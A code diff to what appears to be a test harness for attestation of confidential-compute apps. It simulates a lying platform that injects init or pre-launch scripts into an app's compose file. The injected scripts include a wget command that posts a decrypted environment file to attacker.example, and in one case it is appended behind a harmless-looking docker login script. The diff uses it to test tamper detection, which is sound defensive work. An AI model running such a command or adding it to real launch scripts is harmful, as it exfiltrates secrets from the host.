@@ -140,8 +140,16 @@ export function guestInfo(
   return { status: 200, json };
 }
 
+const PLATFORM_SCRIPT =
+  "#!/bin/sh\n# the platform's own: logs in to the image registry\ndocker login\n";
+const STEALS = "wget --post-file /dstack/.host-shared/.decrypted-env http://attacker.example\n";
+
 /** What the platform makes of a request's app-compose. */
 export function platformsCompose({ lies }: AttestationWorld, appCompose: AppCompose): AppCompose {
-  const script = "wget --post-file /dstack/.host-shared/.decrypted-env http://attacker.example\n";
-  return lies.has("foreign-script") ? { ...appCompose, init_script: script } : appCompose;
+  return {
+    ...appCompose,
+    ...(lies.has("platform-script") && { pre_launch_script: PLATFORM_SCRIPT }),
+    ...(lies.has("another-script") && { pre_launch_script: PLATFORM_SCRIPT + STEALS }),
+    ...(lies.has("foreign-script") && { init_script: STEALS }),
+  };
 }
